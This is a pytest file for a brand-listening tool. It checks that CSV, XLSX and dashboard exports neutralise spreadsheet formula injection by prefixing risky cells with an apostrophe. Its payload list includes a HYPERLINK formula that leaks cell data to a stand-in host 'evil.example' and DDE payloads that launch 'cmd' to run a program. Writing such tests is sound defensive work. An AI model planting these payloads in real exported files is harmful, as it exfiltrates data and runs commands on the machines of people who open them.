"""Formula injection: CSV and XLSX exports neutralise text cells that would start a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from listening.cli import app
from listening.export import csv_bytes, export_documents
from listening.store import Brand, Document, Source, Store

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["Colis jamais livré", "prix = trop cher", "5 étoiles"]


def _seed(store: Store) -> None:
    with store.session() as session:
        brand = Brand(name="=Marque", is_own=True, aliases=[])
        source = Source(
            name="@src", kind="forum", url="https://forum.example/", state={}, settings={}
        )
        session.add_all([brand, source])
        session.flush()
        for i, text in enumerate(PAYLOADS + SAFE):
            session.add(
                Document(
                    source_id=source.id,
                    brand_id=brand.id,
                    external_id=f"e{i}",
                    url=f"https://forum.example/t/{i}",
                    author="-auteur",
                    title="=1+1",
                    text=text,
                    content_hash=f"h{i}",
                    language="fr",
                )
            )


def _check(rows: list[dict[str, object]]) -> None:
    texts = [str(r["text"]) for r in rows]
    assert texts == ["'" + p for p in PAYLOADS] + SAFE  # each payload kept, made inert
    assert all(r["brand"] == "'=Marque" and r["source"] == "'@src" for r in rows)
    assert all(r["author"] == "'-auteur" and r["title"] == "'=1+1" for r in rows)


def test_export_csv_neutralises_formulas(sqlite_store: Store, tmp_path: Path) -> None:
    _seed(sqlite_store)
    out = tmp_path / "v.csv"
    assert export_documents(sqlite_store, out, "csv") == len(PAYLOADS) + len(SAFE)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    _check(rows)  # type: ignore[arg-type]


def test_export_xlsx_neutralises_formulas(sqlite_store: Store, tmp_path: Path) -> None:
    _seed(sqlite_store)
    out = tmp_path / "v.xlsx"
    res = CliRunner().invoke(app, ["export", str(out), "--format", "xlsx", "--json"])
    assert res.exit_code == 0, res.output
    book = openpyxl.load_workbook(out)
    sheet = book["verbatims"]
    header = [c.value for c in sheet[1]]
    rows = [
        dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)
    ]
    _check(rows)
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cell at all


@pytest.mark.parametrize("text", PAYLOADS)
def test_dashboard_csv_download_neutralises(text: str) -> None:
    data = csv_bytes(pd.DataFrame({"text": [text], "n": [-3]})).decode()
    rows = list(csv.DictReader(data.splitlines(keepends=True)))
    assert rows[0]["text"] == "'" + text and rows[0]["n"] == "-3"  # numbers untouched
